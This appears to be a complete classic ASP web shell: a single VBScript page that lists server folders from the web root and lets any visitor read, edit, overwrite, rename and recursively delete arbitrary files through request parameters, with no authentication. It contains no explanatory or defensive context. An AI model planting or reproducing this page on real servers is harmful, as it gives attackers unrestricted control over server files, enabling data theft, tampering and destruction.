<%@ Language=VBScript %>
<%
Option Explicit
Response.Buffer = True
Dim fso, path, act, f, fold, item
Set fso = Server.CreateObject("Scripting.FileSystemObject")
path = Request("path")
If path = "" Then path = Server.MapPath("/")
act = Request("act")
Select Case act
    Case "del"
        If fso.FileExists(Request("f")) Then fso.DeleteFile Request("f"), True
        If fso.FolderExists(Request("f")) Then fso.DeleteFolder Request("f"), True
    Case "save"
        Set f = fso.CreateTextFile(Request.Form("f"), True)
        f.Write Request.Form("content")
        f.Close
    Case "edit"
        Set f = fso.OpenTextFile(Request("f"), 1)
        Response.Write "<form method=post action='?act=save'><input type=hidden name=f value='" & Request("f") & "'>"
        Response.Write "<textarea name=content cols=100 rows=30>" & Server.HTMLEncode(f.ReadAll) & "</textarea><input type=submit></form>"
        f.Close
    Case "ren"
        fso.MoveFile Request("f"), Request("to")
End Select
Set fold = fso.GetFolder(path)
Response.Write "<h3>" & path & "</h3><table>"
For Each item In fold.SubFolders
    Response.Write "<tr><td><a href='?path=" & item.Path & "'>[" & item.Name & "]</a></td><td><a href='?act=del&f=" & item.Path & "'>del</a></td></tr>"
Next
For Each item In fold.Files
    Response.Write "<tr><td>" & item.Name & "</td><td>" & item.Size & "</td><td><a href='?act=edit&f=" & item.Path & "'>edit</a> <a href='?act=del&f=" & item.Path & "'>del</a></td></tr>"
Next
Response.Write "</table>"
%>
